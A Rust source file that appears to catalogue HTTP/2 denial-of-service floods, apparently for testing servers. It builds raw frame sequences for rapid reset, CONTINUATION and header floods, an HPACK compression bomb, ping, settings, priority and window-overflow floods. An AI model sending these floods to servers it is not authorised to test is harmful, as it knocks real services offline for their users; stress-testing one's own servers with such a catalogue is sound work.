//! Clients of HTTP/2 that want somebody else's time or memory, one frame after the other.

use std::fmt;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, fields, frame, get, remembered,
};

/// A way to flood: what comes first, and then the n-th piece, again and again.
pub struct Flood {
    /// What people call it.
    pub name: &'static str,
    /// What comes first, behind the opening.
    pub first: Vec<u8>,
    /// The n-th piece.
    pub piece: Box<dyn Fn(u32) -> Vec<u8> + Send>,
    /// How it has to end: cut off, or it may as well go on as long as it costs little.
    pub cut_off: bool,
}

fn flood(
    name: &'static str,
    cut_off: bool,
    first: Vec<u8>,
    piece: impl Fn(u32) -> Vec<u8> + Send + 'static,
) -> Flood {
    Flood { name, first, piece: Box::new(piece), cut_off }
}

/// The n-th stream of a client.
fn stream(nth: u32) -> u32 {
    2 * nth + 1
}

fn request(nth: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream(nth), &get("/nothing"))
}

/// A field that is told once and then meant thousands of times: 4 KiB that become 64 MiB in each request.
fn bomb(nth: u32) -> Vec<u8> {
    let told = if nth == 0 { remembered("x", &"x".repeat(4000)) } else { Vec::new() };
    let head = [get("/nothing"), told].concat();
    let meant = vec![0xbe; 16_384 - head.len()];
    let first = frame(HEADERS, END_STREAM, stream(nth), &[head, meant].concat());
    [first, frame(CONTINUATION, END_HEADERS, stream(nth), &[0xbe; 16_384])].concat()
}

/// All that are known.
#[must_use]
pub fn floods() -> Vec<Flood> {
    let open = || request(0, 0);
    let credit = |stream: u32, by: u32| frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    let cancel = |nth| frame(RST_STREAM, 0, stream(nth), &8_u32.to_be_bytes());
    vec![
        flood("rapid reset", false, vec![], move |n| [request(n, END_STREAM), cancel(n)].concat()),
        flood("rapid reset of open requests", false, vec![], move |n| {
            [request(n, 0), cancel(n)].concat()
        }),
        flood("resets that we are made to send", true, vec![], move |n| {
            [request(n, 0), credit(stream(n), 0)].concat()
        }),
        flood("a head that goes on", true, frame(HEADERS, 0, 1, &get("/nothing")), |_| {
            frame(CONTINUATION, 0, 1, &fields(&[("x", "y")]))
        }),
        flood("a head that goes on with nothing", true, frame(HEADERS, 0, 1, &[]), |_| {
            frame(CONTINUATION, 0, 1, &[])
        }),
        flood("a body of nothing", true, open(), |_| frame(DATA, 0, 1, &[])),
        flood("settings", true, vec![], |_| frame(SETTINGS, 0, 0, &[])),
        flood("settings that change", true, vec![], |n| {
            frame(SETTINGS, 0, 0, &[&[0, 4][..], &(n % 65_536).to_be_bytes()].concat())
        }),
        flood("pings", true, vec![], |n| frame(PING, 0, 0, &u64::from(n).to_be_bytes())),
        flood("priorities", true, vec![], |n| {
            frame(PRIORITY, 0, stream(n % 1000), &[0, 0, 0, 2, 9])
        }),
        flood("a priority of itself", true, vec![], |n| {
            frame(PRIORITY, 0, stream(n), &[&stream(n).to_be_bytes()[..], &[9]].concat())
        }),
        flood("frames that nobody knows", true, vec![], |_| frame(0xbb, 0, 0, b"what is this")),
        flood("a window of 0", true, vec![], move |_| credit(0, 0)),
        flood("a window that overflows", true, vec![], move |_| credit(0, 0x7fff_ffff)),
        flood("a stream's window that overflows", false, open(), move |_| credit(1, 0x7fff_ffff)),
        flood("windows by one", false, open(), move |_| credit(1, 1)),
        flood("fields that grow", false, vec![], bomb),
        flood("requests that do not end", false, vec![], |n| request(n, 0)),
        flood("frames that are too large", true, vec![], |_| frame(PING, 0, 0, &[0; 20_000])),
    ]
}

impl fmt::Debug for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Flood({})", self.name)
    }
}
